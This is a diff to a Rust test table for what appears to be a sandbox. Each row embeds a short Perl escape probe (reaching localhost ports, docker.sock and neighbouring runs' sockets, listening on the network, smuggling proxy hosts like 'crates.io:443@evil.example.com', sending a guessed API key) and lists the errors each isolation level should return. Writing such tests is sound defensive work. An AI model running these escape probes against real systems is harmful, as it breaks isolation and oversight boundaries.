@@ -14,14 +14,14 @@ pub const ROWS: &[Row] = &[
             try 'ssh', sub { tcp('127.0.0.1', 22) };"#,
         tries: 6,
         l3: "ECONNREFUSED|ENETUNREACH",
-        l2: "ECONNREFUSED|ENETUNREACH|EACCES",
+        l2_open: "ECONNREFUSED|ENETUNREACH|EACCES",
         ..PLAIN
     },
     Row {
         name: "that service is there",
         attack: r#"try 'service', sub { tcp('127.0.0.1', $ENV{ATTACK_PORT}) };"#,
         l3: "ECONNREFUSED",
-        l2: "ECONNREFUSED|EACCES",
+        l2_open: "ECONNREFUSED|EACCES",
         open: Some("REACHED"),
         ..PLAIN
     },
@@ -37,23 +37,22 @@ pub const ROWS: &[Row] = &[
             try 'name', sub { my $found = inet_aton('crates.io'); $found ? 'FOUND' : 'NOT FOUND' };"#,
         tries: 6,
         l3: "ENETUNREACH, ENETUNREACH, ENETUNREACH, ENETUNREACH, ENETUNREACH|EOPNOTSUPP, NOT FOUND",
-        l2: "ENETUNREACH|EACCES, ENETUNREACH|EACCES, ENETUNREACH|EACCES, ENETUNREACH|EPERM, ENETUNREACH|EPERM|EOPNOTSUPP, NOT FOUND",
+        l2_open: "ENETUNREACH|EACCES, ENETUNREACH|EACCES, ENETUNREACH|EACCES, ENETUNREACH|EPERM, ENETUNREACH|EPERM|EOPNOTSUPP, NOT FOUND",
         ..PLAIN
     },
     Row {
         name: "abstract sockets of this machine are reached",
         attack: r#"try 'abstract', sub { unix_socket("\0$P-abstract") };"#,
         l3: "ECONNREFUSED",
-        l2: "ECONNREFUSED|EPERM",
+        l2_open: "ECONNREFUSED|EPERM",
         open: Some("REACHED"),
         ..PLAIN
     },
     Row {
-        // What L2 does not give: no Landlock of today's kernels looks at named sockets. Only their modes keep them.
         name: "a named socket that everybody may use is reached",
         attack: r#"try 'docker', sub { unix_socket("$P/sockets/docker.sock") };"#,
         l3: "ENOENT",
-        l2: "REACHED|EACCES",
+        l2_open: "EPERM",
         open: Some("REACHED"),
         ..PLAIN
     },
@@ -63,10 +62,35 @@ pub const ROWS: &[Row] = &[
             "../../../runs/$ENV{ATTACK_RUN}/socket", "../../../runs/neighbour/socket", "../../../host/host.sock";"#,
         tries: 3,
         l3: "ENOENT",
-        // Without root it has the service's account, and no Landlock looks at named sockets: its own supervisor does not
-        // listen to it, another run's wants a key that it cannot read.
-        l2: "EACCES|REACHED, EACCES|REACHED, ENOENT|EACCES",
-        after: |_, ran| assert!(!super::place::is_root() || !ran.output.contains("REACHED"), "{}", ran.output),
+        l2_open: "EPERM",
+        ..PLAIN
+    },
+    Row {
+        name: "it listens to the network, and leaves a socket for others",
+        attack: r#"my $listen = sub { my ($family, $address) = @_;
+                socket(my $s, $family, SOCK_STREAM, 0) or return;
+                if ($address) { bind($s, $address) or return }
+                return listen($s, 1) && 'LISTENS' };
+            try 'everywhere', sub { $listen->(PF_INET, pack_sockaddr_in(0, INADDR_ANY)) };
+            try 'unbound', sub { $listen->(PF_INET) };
+            try 'version 6', sub { $listen->(PF_INET6) };
+            try 'named', sub { $listen->(PF_UNIX, pack_sockaddr_un('mine.sock')) };
+            try 'abstract', sub { $listen->(PF_UNIX, pack_sockaddr_un("\0mine")) };"#,
+        tries: 5,
+        // In a network of its own nobody hears it.
+        l3: "LISTENS",
+        l2_open: "EPERM|EACCES",
+        ..PLAIN
+    },
+    Row {
+        name: "the port number of its proxy is reached at other addresses",
+        attack: r#"my ($host, $port) = proxy(); my $found = `hostname -I 2>/dev/null` // ''; my ($outer) = $found =~ /(\S+)/;
+            try 'outer', sub { tcp($outer // '192.0.2.1', $port) };
+            try 'documentation', sub { tcp('192.0.2.1', $port) };"#,
+        tries: 2,
+        l3: "ENETUNREACH",
+        // What L2-open leaves open: the kernel's rule has a port and no address.
+        l2_open: "ECONNREFUSED|ENETUNREACH|EHOSTUNREACH|ETIMEDOUT|DIED HUNG",
         ..PLAIN
     },
     Row {
@@ -75,7 +99,7 @@ pub const ROWS: &[Row] = &[
             try 'own socket', sub { unix_socket("../../../runs/$ENV{ATTACK_RUN}/egress.sock") };"#,
         tries: 2,
         l3: "ENOENT",
-        l2: "EACCES|ENOENT",
+        l2_open: "EPERM",
         ..PLAIN
     },
     Row {
@@ -85,7 +109,7 @@ pub const ROWS: &[Row] = &[
                 'localhost:' . $ENV{ATTACK_PORT}, 'crates.io.evil.example.com:443', "crates.io:443\@evil.example.com:443", ':443', 'crates.io';"#,
         tries: 15,
         l3: "403",
-        l2: "403",
+        l2_open: "403",
         ..PLAIN
     },
     Row {
@@ -97,7 +121,7 @@ pub const ROWS: &[Row] = &[
             try 'model with a guess', sub { ask("POST /v1/messages HTTP/1.1\r\nHost: x\r\nx-api-key: sk-ant-api03-guess\r\nConnection: close\r\nContent-Length: 2\r\n\r\n{}") };"#,
         tries: 5,
         l3: "407, 407, 407, 401, 401",
-        l2: "407, 407, 407, 401, 401",
+        l2_open: "407, 407, 407, 401, 401",
         ..PLAIN
     },
     Row {
@@ -111,7 +135,7 @@ pub const ROWS: &[Row] = &[
             try 'torn', sub { ask("POST /v1/messages HTTP/1.1\r\n${with}X: a\0b\r\n\r\n") };"#,
         tries: 9,
         l3: "404|405|400|403|529|501",
-        l2: "404|405|400|403|529|501",
+        l2_open: "404|405|400|403|529|501",
         ..PLAIN
     },
     Row {
@@ -123,7 +147,7 @@ pub const ROWS: &[Row] = &[
             try 'served', sub { my $a; for (1 .. 50) { $a = tunnel('evil.example.com:443') // ''; last if $a eq '403'; select(undef, undef, undef, 0.1) } $a };"#,
         tries: 2,
         l3: "MANY, 403",
-        l2: "MANY, 403",
+        l2_open: "MANY, 403",
         ..PLAIN
     },
 ];
